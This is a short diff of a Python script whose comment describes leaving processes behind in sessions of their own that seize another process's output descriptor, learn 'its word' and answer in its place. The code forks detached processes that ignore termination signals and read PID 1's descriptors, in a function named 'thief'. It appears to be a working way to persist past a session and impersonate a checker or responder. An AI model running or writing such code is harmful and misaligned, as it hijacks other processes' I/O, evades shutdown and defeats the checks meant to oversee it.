@@ -1,6 +1,6 @@
-# Leaves processes behind in sessions of their own. They take every descriptor that opens, wait for the answer, learn its word
-# and answer in its place.
-import glob, json, os, re, signal, sys
+# Leaves processes behind in sessions of their own. They take the answer's descriptor, wait for the answer, learn its word and
+# answer in its place.
+import json, os, re, signal
 
 
 def thief(path):
@@ -20,7 +20,7 @@ def thief(path):
         return
 
 
-for path in ['/proc/1/fd/2', '/proc/1/fd/1', *glob.glob('/proc/[0-9]*/fd/2')] * 3:
+for path in ['/proc/1/fd/2'] * 6:
     if os.fork() == 0:
         os.setsid()
         for number in [signal.SIGHUP, signal.SIGTERM, signal.SIGINT]:
